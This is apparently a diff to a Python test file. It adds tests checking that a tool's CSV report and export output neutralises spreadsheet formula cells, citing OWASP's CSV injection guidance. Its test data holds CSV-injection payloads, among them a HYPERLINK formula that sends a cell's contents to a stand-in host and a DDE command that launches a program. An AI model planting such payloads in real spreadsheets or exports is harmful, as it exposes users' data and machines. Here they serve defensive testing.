@@ -100,3 +100,38 @@ def test_the_period_must_make_sense(tmp_path: Path) -> None:
     assert backwards.exit_code != 0 and "must be after --since" in backwards.output
     garbled = local.oubli("report", "--since", "last week", "--until", "2026-11-01")
     assert garbled.exit_code != 0 and "ISO 8601" in garbled.output
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)",
+            "\t=1+1", "\r=1+1")
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_written_as_text(tmp_path: Path) -> None:
+    """OWASP's CSV injection guidance: a cell starting with = + - @ tab or CR gets a leading quote."""
+    local = LocalStore(tmp_path, systems=())
+    store = local.store
+    ids = [record(store, {"orders_db": 1}, customer_id="C-formula", request_id=formula.replace(" ", "") + f"-{n}",
+                  requested_at=NOVEMBER + timedelta(days=1 + n)) for n, formula in enumerate(FORMULAS[:4])]
+    for args in (("--format", "csv"), ("--requests",)):
+        result = local.oubli("report", "--since", "2026-11-01", "--until", "2026-12-01", *args)
+        assert result.exit_code == 0, result.output
+        body = result.output[result.output.index("request_id,"):]
+        rows = list(csv.DictReader(io.StringIO(body)))
+        assert [r["request_id"] for r in rows] == [f"'{i}" for i in ids]
+        assert not [r for r in rows for cell in r.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_export_csv_copies_neutralise_formulas_and_the_json_keeps_the_data_as_is() -> None:
+    from worker.core.csvcells import spreadsheet_safe
+    from worker.export.staging import _csv_lines
+
+    spool = io.BytesIO()
+    for n, formula in enumerate(FORMULAS):
+        spool.write(json.dumps({"note": formula, "amount": -n - 1, "plain": "ok"}).encode() + b"\n")
+    spool.seek(0)
+    text = b"".join(_csv_lines(spool, ["note", "amount", "plain"])).decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [r["note"] for r in rows] == [f"'{f}" for f in FORMULAS]
+    assert [r["amount"] for r in rows] == [str(-n - 1) for n in range(len(FORMULAS))]  # numbers stay numbers
+    assert {r["plain"] for r in rows} == {"ok"}
+    assert spreadsheet_safe("a=b") == "a=b" and spreadsheet_safe("") == ""
